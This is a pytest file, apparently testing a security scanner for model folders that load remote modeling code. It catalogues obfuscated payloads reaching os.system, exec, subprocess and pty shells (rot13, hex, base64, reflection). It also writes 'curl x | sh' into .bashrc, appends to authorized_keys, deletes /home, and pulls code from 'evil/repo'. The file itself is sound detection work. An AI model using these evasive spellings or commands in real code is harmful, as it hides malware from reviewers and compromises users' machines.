"""Red team: remote code (trust_remote_code=True) that spells its payload indirectly.

Each case is a `modeling_*.py` a config's auto_map points at; the payload is
reached through reflection, aliases, path builders or unsafe keywords instead
of a plain `os.system(...)`. The gate must block every one (exit 1, a finding
of at least high) while ordinary modeling code that uses the same builtins
benignly still passes.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.builders import TINY_CONFIG, safetensors_bytes
from tests.scan_helpers import rule_ids, scan_files

INDIRECT = {
    # reflection by computed name on a namespace that holds exec/system
    "getattr-builtins-computed": ("import builtins\ngetattr(builtins, 'ex' + 'ec')('x = 1')\n",
                                  "AUD-CODE-016"),
    "builtins-subscript-computed": ("__builtins__['ev' + 'al']('1')\n", "AUD-CODE-016"),
    "sys-modules-computed": ("import sys\nsys.modules['o' + 's'].system('id')\n",
                             "AUD-CODE-016"),
    "sys-modules-unresolved": ("import sys\nsys.modules[sys.argv[1]].system('id')\n",
                               "AUD-CODE-017"),
    "sys-modules-constant": ("import sys\nsys.modules['os'].system('id')\n", "AUD-CODE-002"),
    "getattr-os-computed": ("import os\nname = 'sys' + 'tem'\ngetattr(os, name)('id')\n",
                            "AUD-CODE-016"),
    "getattr-os-unresolved": ("import os, sys\ngetattr(os, sys.argv[1])('id')\n", "AUD-CODE-017"),
    # aliases made by assignment instead of an import
    "module-alias-assignment": ("import os\no = os\no.system('id')\n", "AUD-CODE-002"),
    "walrus-getattr-alias": ("import os\nif (g := getattr):\n    g(os, 'sys' + 'tem')('id')\n",
                             "AUD-CODE-016"),
    # module re-exports walked through
    "os-path-os-system": ("import os.path\nos.path.os.system('id')\n", "AUD-CODE-002"),
    # code objects and function globals
    "code-object-rebuild": ("f = type(lambda: 0)\n"
                            "c = (lambda: 0).__code__.replace(co_consts=(None,))\nf(c, {})()\n",
                            "AUD-CODE-003"),
    "function-globals": ("def f(): pass\nf.__globals__['__builtins__']\n", "AUD-CODE-003"),
    "subclasses-walk": ("x = ().__class__.__base__.__subclasses__()\n", "AUD-CODE-003"),
    "breakpoint": ("breakpoint()\n", "AUD-CODE-003"),
    # operator gadgets naming a dangerous method
    "methodcaller-system": ("import operator, os\noperator.methodcaller('system', 'id')(os)\n",
                            "AUD-CODE-002"),
    # unsafe keywords on otherwise safe loaders
    "torch-load-weights-only-false": (
        "import torch\ntorch.load('extra.bin', weights_only=False)\n", "AUD-CODE-008"),
    "np-load-allow-pickle": ("import numpy as np\nnp.load('a.npy', allow_pickle=True)\n",
                             "AUD-CODE-008"),
    "yaml-unsafe-load": ("import yaml\nyaml.unsafe_load(open('c.yaml'))\n", "AUD-CODE-008"),
    # writes outside the folder through path builders
    "pathlib-home-write": ("import pathlib\n"
                           "pathlib.Path.home().joinpath('.bashrc').write_text('curl x | sh')\n",
                           "AUD-CODE-009"),
    "expanduser-open-append": ("import os\n"
                               "open(os.path.expanduser('~/.ssh/authorized_keys'), 'a')\n",
                               "AUD-CODE-009"),
    "path-div-write": ("from pathlib import Path\n(Path('/etc') / 'cron.d' / 'x').write_text('')\n",
                       "AUD-CODE-009"),
}

BENIGN = """\
import re
import sys
import torch
from pathlib import Path
from torch import nn

ACT = {"gelu": nn.GELU}
PATTERN = re.compile(r"layers\\.(\\d+)")


def helper():
    pass


globals()[helper.__name__] = helper
THIS = sys.modules[__name__]


class TinyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.act = getattr(nn, config.hidden_act, nn.GELU)()
        self.size = getattr(config, "hidden_size", 16)
        self.fast = torch.compile
        for key in ("a", "b"):
            setattr(self, key, getattr(config, key, None))

    def load_extra(self, folder):
        state = torch.load(Path(folder) / "extra.bin", map_location="cpu", weights_only=True)
        Path(folder, "cache").mkdir(exist_ok=True)
        return state
"""


def write_model(folder: Path, source: str) -> Path:
    folder.mkdir(parents=True)
    config = dict(TINY_CONFIG, auto_map={"AutoModel": "modeling_tiny.TinyModel"})
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "modeling_tiny.py").write_text(source)
    (folder / "model.safetensors").write_bytes(safetensors_bytes({"w": ("F32", [2, 2])}))
    return folder


def findings(run_cli, folder: Path) -> tuple[int, dict[str, str]]:
    result = run_cli("scan", folder, "--format", "json")
    doc = json.loads(result.out)
    found = {f["rule"]: f["severity"] for m in doc["models"] for fr in m["files"]
             for f in fr["findings"]}
    return result.code, found


@pytest.mark.parametrize("case", sorted(INDIRECT))
def test_indirect_payload_in_remote_code_is_blocked(tmp_path, run_cli, case):
    source, rule = INDIRECT[case]
    code, found = findings(run_cli, write_model(tmp_path / "m", source))
    assert code == 1, found
    assert rule in found, found
    assert found[rule] in ("critical", "high")


def test_benign_modeling_code_with_the_same_builtins_passes(tmp_path, run_cli):
    """getattr on config/nn by name, globals() assignment, re/torch.compile, torch.load
    with weights_only=True and writes inside the model folder are ordinary."""
    code, found = findings(run_cli, write_model(tmp_path / "m", BENIGN))
    assert code == 0, found
    assert found.get("AUD-CODE-001") == "medium"


# ---- computed names: the name of a dangerous function built from constants at run time -------

# spelling -> the name the review must compute (reported critical, AUD-CODE-016)
COMPUTED = {
    "rot13-getattr-builtins": ("import builtins, codecs\n"
                               "getattr(builtins, codecs.decode('riny', 'rot13'))('1')\n", "eval"),
    "rot13-from-import-alias": ("import builtins\nfrom codecs import decode as d\n"
                                "f = getattr(builtins, d('rkrp', 'rot_13'))\nf('1')\n", "exec"),
    "attrgetter-concat": ("import operator, os\noperator.attrgetter('sys' + 'tem')(os)('id')\n",
                          "os.system"),
    "attrgetter-dotted-reversed": (
        "import operator, os\noperator.attrgetter('metsys.so.htap'[::-1])(os)\n",
        "os.path.os.system"),
    "methodcaller-subprocess": (
        "import operator, subprocess\n"
        "operator.methodcaller(''.join(['Po', 'pen']), ['id'])(subprocess)\n", "subprocess.Popen"),
    "builtins-subscript-concat": ("__builtins__['ev' + 'al']('1')\n", "eval"),
    "builtins-dict-format": ("import builtins\nbuiltins.__dict__['{}c'.format('exe')]('1')\n",
                             "exec"),
    "vars-builtins-join": ("import builtins\nvars(builtins)['-'.join('e x e c').replace('-', '')"
                           ".replace(' ', '')]('1')\n", "exec"),
    "vars-os-percent": ("import os\nvars(os)['%s%s' % ('sys', 'tem')]('id')\n", "os.system"),
    "globals-builtins-chr": ("globals()['__builtins__'][chr(101) + chr(120) + chr(101) + chr(99)]"
                             "('1')\n", "exec"),
    "globals-module-reversed": ("import os\nglobals()['so'[::-1]].system('id')\n", "os.system"),
    "import-module-b64": ("import importlib, base64\n"
                          "m = importlib.import_module(base64.b64decode('c3VicHJvY2Vzcw==')"
                          ".decode())\nm.run(['id'])\n", "subprocess.run"),
    "dunder-import-hex": ("m = __import__(bytes.fromhex('6f73').decode())\nm.system('id')\n",
                          "os.system"),
    "import-unhexlify-module": ("import binascii\n"
                                "s = __import__(binascii.unhexlify(b'736f636b6574').decode())\n",
                                "socket"),
    "getattr-fstring-constants": ("import os\na = 'sys'\nb = 'tem'\ngetattr(os, f'{a}{b}')('id')\n",
                                  "os.system"),
    "getattr-chr-comprehension": ("import os\n"
                                  "n = ''.join(chr(c) for c in (115, 121, 115, 116, 101, 109))\n"
                                  "getattr(os, n)('id')\n", "os.system"),
    "getattr-map-chr-xor": ("import os\nk = [x ^ 1 for x in (114, 120, 114, 117, 100, 108)]\n"
                            "getattr(os, ''.join(map(chr, k)))('id')\n", "os.system"),
    "getattr-bytes-list": ("import socket\n"
                           "getattr(socket, bytes([99, 114, 101, 97, 116, 101, 95, 99, 111, 110,"
                           " 110, 101, 99, 116, 105, 111, 110]).decode())(('h', 1))\n",
                           "socket.create_connection"),
    "getattr-shutil-writer": ("import shutil\ngetattr(shutil, 'rm' + 'tree')('/home')\n",
                              "shutil.rmtree"),
    "sys-modules-get-dict-table": ("import sys\nT = {'a': 'o', 'b': 's'}\n"
                                   "sys.modules.get(T['a'] + T.get('b')).system('id')\n",
                                   "os.system"),
    "builtins-dict-get": ("import builtins\nbuiltins.__dict__.get('lave'[::-1])('1')\n", "eval"),
    "importlib-dunder-import": ("import importlib\nimportlib.__import__('pt' + 'y').spawn('sh')\n",
                                "pty.spawn"),
    "getattr-static-import-module": ("import importlib, inspect\n"
                                     "m = importlib.import_module(str.join('', ['o', 's']))\n"
                                     "inspect.getattr_static(m, 'sys' 'tem')('id')\n", "os.system"),
    "operator-getitem-vars": ("import operator, builtins\n"
                              "operator.getitem(vars(builtins), 'ex' + 'ec')('1')\n", "exec"),
    "open-for-writing": ("import builtins\ngetattr(builtins, 'op' + 'en')('x', 'w')\n",
                         "open (for writing)"),
    "import-module-codecs-encode": (
        "import importlib, codecs\nimportlib.import_module(codecs.encode('fhocebprff', 'rot13'))\n",
        "subprocess"),
}


@pytest.fixture(scope="module")
def computed_reports(tmp_path_factory):
    """One scan of a folder holding every spelling (one file each)."""
    folder = tmp_path_factory.mktemp("computed")
    for case, (source, _) in COMPUTED.items():
        (folder / f"modeling_{case.replace('-', '_')}.py").write_text(source)
    return scan_files(folder)


@pytest.mark.parametrize("case", sorted(COMPUTED))
def test_computed_name_of_a_dangerous_function_is_critical_and_named(computed_reports, case):
    report = computed_reports[f"modeling_{case.replace('-', '_')}.py"]
    hidden = [f for f in report.findings if f.rule == "AUD-CODE-016"]
    assert hidden, report.findings
    assert all(f.severity.label == "critical" for f in hidden)
    assert any(f" {COMPUTED[case][1]} <- " in f.detail for f in hidden), hidden


UNRESOLVED = {
    "getattr-builtins-argv": "import builtins, sys\ngetattr(builtins, sys.argv[1])('1')\n",
    "vars-os-input": "import os\nvars(os)[input()]('id')\n",
    "globals-env": "import os\nglobals()[os.environ['X']]('1')\n",
    "methodcaller-decoded-variable": (
        "import operator, codecs\n"
        "def f(s, o):\n    return operator.methodcaller(codecs.decode(s, 'rot13'))(o)\n"),
    "getattr-object-built-dangerous-leaf": (
        "def f(o):\n    return getattr(o, 'sys' + 'tem')('id')\n"),
    "sys-modules-get-argv": "import sys\nsys.modules.get(sys.argv[1]).system('id')\n",
    "methodcaller-os-parameter": ("import operator, os\n"
                                  "def f(n):\n    return operator.methodcaller(n)(os)\n"),
}


@pytest.mark.parametrize("case", sorted(UNRESOLVED))
def test_computed_name_that_cannot_be_resolved_is_high(tmp_path, case):
    (tmp_path / "modeling_x.py").write_text(UNRESOLVED[case])
    report = scan_files(tmp_path)["modeling_x.py"]
    found = {f.rule: f.severity.label for f in report.findings}
    assert found.get("AUD-CODE-017") == "high", report.findings
    assert "AUD-CODE-016" not in found


BENIGN_COMPUTED = '''\
import torch
from torch import nn

ACT = "ge" + "lu"
MODE = "eval"


class Block(nn.Module):
    def __init__(self, config, index):
        super().__init__()
        for i in range(config.num_layers):
            setattr(self, f"layer_{i}", nn.Linear(4, 4))
        self.act = getattr(nn.functional, ACT)
        self.norm = getattr(nn, "{}Norm".format("Layer"))(4)
        self.kind = getattr(config, "%s_type" % "attention", "eager")
        self.proj = getattr(self, "layer_" + str(index))
        name = "".join(["q", "_proj"])
        self.q = getattr(config, name, None)

    def forward(self, x, model):
        getattr(model, MODE)()
        return getattr(torch, "tan" + "h")(self.act(x))
'''


def test_benign_computed_names_stay_medium(tmp_path):
    (tmp_path / "modeling_block.py").write_text(BENIGN_COMPUTED)
    report = scan_files(tmp_path)["modeling_block.py"]
    assert rule_ids(report) == ["AUD-CODE-001"], report.findings


@pytest.mark.parametrize("model", ["llama", "gpt2", "bert", "t5", "falcon"])
def test_real_transformers_modeling_files_stay_medium(tmp_path, model):
    """The modeling files transformers itself ships (getattr(config, name), torch functions,
    f-string attribute names) are what remote code looks like: no finding above medium."""
    transformers = pytest.importorskip("transformers")
    source = Path(transformers.__file__).parent / "models" / model / f"modeling_{model}.py"
    (tmp_path / source.name).write_bytes(source.read_bytes())
    report = scan_files(tmp_path)[source.name]
    assert {f.severity.label for f in report.findings} <= {"medium", "low"}, report.findings


# ---- getattr spelled as a bound method, and attribute paths walked by reduce/accumulate -----

# spelling -> (source, rule it must raise, severity)
WALKS = {
    "getattribute-method-concat": ("import os\nos.__getattribute__('sys' + 'tem')('true')\n",
                                   "AUD-CODE-016", "critical"),
    "getattr-method-constant": ("import os\nos.__getattr__('system')('true')\n",
                                "AUD-CODE-002", "critical"),
    "type-getattribute": ("import os\ntype.__getattribute__(os, 'system')('true')\n",
                          "AUD-CODE-002", "critical"),
    "getattribute-bound-alias": ("import os\ng = os.__getattribute__\ng('sys' + 'tem')('true')\n",
                                 "AUD-CODE-016", "critical"),
    "module-dict-get": ("import os\nos.__dict__.get('sys' + 'tem')('true')\n",
                        "AUD-CODE-016", "critical"),
    "getattribute-method-argv": ("import os, sys\nos.__getattribute__(sys.argv[1])('true')\n",
                                 "AUD-CODE-017", "high"),
    "getattribute-object-built-leaf": (
        "def f(o):\n    return o.__getattribute__('sys' + 'tem')('id')\n", "AUD-CODE-017", "high"),
    "reduce-getattr-list": ("import functools, os\n"
                            "functools.reduce(getattr, ['path', 'os', 'system'], os)('true')\n",
                            "AUD-CODE-016", "critical"),
    "reduce-split-alias": ("from functools import reduce\nimport os\n"
                           "f = reduce(getattr, 'path.os.system'.split('.'), os)\nf('true')\n",
                           "AUD-CODE-002", "critical"),
    "reduce-getitem-vars": ("import functools, operator, builtins\n"
                            "functools.reduce(operator.getitem, ['exec'], vars(builtins))('1')\n",
                            "AUD-CODE-016", "critical"),
    "reduce-lambda-getattr": ("import functools, os\n"
                              "functools.reduce(lambda o, n: getattr(o, n), ['system'], os)"
                              "('id')\n",
                              "AUD-CODE-002", "critical"),
    "accumulate-getattr": ("import itertools, os\n"
                           "*_, f = itertools.accumulate(['path', 'os', 'system'], getattr,"
                           " initial=os)\nf('id')\n", "AUD-CODE-016", "critical"),
    "reduce-argv-unresolved": ("import functools, os, sys\n"
                               "functools.reduce(getattr, sys.argv[1:], os)('id')\n",
                               "AUD-CODE-017", "high"),
    "reduce-parameters-unresolved": ("import functools\n"
                                     "def f(o, p):\n"
                                     "    return functools.reduce(getattr, p, o)('id')\n",
                                     "AUD-CODE-017", "high"),
    "accumulate-item-unresolved": ("import itertools, os, sys\n"
                                   "list(itertools.accumulate(sys.argv, getattr, initial=os))[-1]"
                                   "('id')\n", "AUD-CODE-017", "high"),
}

# code fetched from another repository at load time: (source, repository named in the finding)
OTHER_REPO = {
    "hub-load": ("import torch\ntorch.hub.load('evil/repo', 'm', trust_repo=True)\n",
                 "'evil/repo'"),
    "hub-load-imported-keywords": ("from torch.hub import load\n"
                                   "load(repo_or_dir='evil/repo', model='m')\n", "'evil/repo'"),
    "hub-list-getattr": ("import torch\ngetattr(torch.hub, 'li' + 'st')('evil/repo')\n", ""),
    "auto-model-trusted": ("from transformers import AutoModel\n"
                           "AutoModel.from_pretrained('evil/x', trust_remote_code=True)\n",
                           "'evil/x'"),
    "auto-config-star-dict": ("from transformers import AutoConfig\n"
                              "AutoConfig.from_pretrained('evil/x',"
                              " **{'trust_remote_code': True})\n",
                              "'evil/x'"),
    "auto-tokenizer-bound-kwargs": ("import transformers\nK = dict(trust_remote_code=1)\n"
                                    "transformers.AutoTokenizer.from_pretrained('evil/x', **K)\n",
                                    "'evil/x'"),
    "pipeline-computed-flag": ("from transformers import pipeline\n"
                               "pipeline('text-generation', model='evil/x', "
                               "trust_remote_code=bool(1))\n", "'evil/x'"),
    "dynamic-module": ("from transformers.dynamic_module_utils import "
                       "get_class_from_dynamic_module as g\ng('evil/x--m.C', 'evil/x')\n", ""),
}
OTHER_REPO_BENIGN = """\
from transformers import AutoModel


def load(name, trust_remote_code=False):
    AutoModel.from_pretrained("ok/x")
    AutoModel.from_pretrained("ok/x", trust_remote_code=False)
    return AutoModel.from_pretrained(name, trust_remote_code=trust_remote_code)
"""
WALK_BENIGN = """\
import functools
import torch


class A(torch.nn.Module):
    def __getattr__(self, name):
        return super().__getattr__(name)

    def sub(self, name):
        return functools.reduce(getattr, name.split("."), self)

    def act(self, x):
        return functools.reduce(getattr, ["nn", "functional", "gelu"], torch)(x)
"""


@pytest.fixture(scope="module")
def walk_reports(tmp_path_factory):
    folder = tmp_path_factory.mktemp("walks")
    cases = {**{k: v[0] for k, v in WALKS.items()}, **{k: v[0] for k, v in OTHER_REPO.items()},
             "benign-walk": WALK_BENIGN, "benign-other-repo": OTHER_REPO_BENIGN}
    for case, source in cases.items():
        (folder / f"modeling_{case.replace('-', '_')}.py").write_text(source)
    return {case: scan_files(folder)[f"modeling_{case.replace('-', '_')}.py"] for case in cases}


@pytest.mark.parametrize("case", sorted(WALKS))
def test_getattr_methods_and_reduce_walks_are_resolved(walk_reports, case):
    _, rule, severity = WALKS[case]
    found = {f.rule: f.severity.label for f in walk_reports[case].findings}
    assert found.get(rule) == severity, walk_reports[case].findings


@pytest.mark.parametrize("case", sorted(OTHER_REPO))
def test_code_fetched_from_another_repository_is_high_and_named(walk_reports, case):
    _, repo = OTHER_REPO[case]
    hits = [f for f in walk_reports[case].findings if f.rule == "AUD-CODE-018"]
    assert hits and all(f.severity.label == "high" for f in hits), walk_reports[case].findings
    assert any(repo in f.detail for f in hits), hits


@pytest.mark.parametrize("case", ["benign-walk", "benign-other-repo"])
def test_ordinary_reduce_and_from_pretrained_stay_medium(walk_reports, case):
    assert rule_ids(walk_reports[case]) == ["AUD-CODE-001"], walk_reports[case].findings
